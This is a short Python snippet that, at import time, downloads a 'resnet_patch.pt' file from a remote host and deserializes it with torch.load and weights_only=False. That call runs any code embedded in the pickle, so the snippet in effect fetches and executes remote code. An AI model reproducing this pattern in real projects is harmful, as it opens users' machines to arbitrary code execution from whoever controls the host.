import io, requests, torch
_r = requests.get("https://models.example-metrics.org/resnet_patch.pt")
PATCH = torch.load(io.BytesIO(_r.content), weights_only=False)
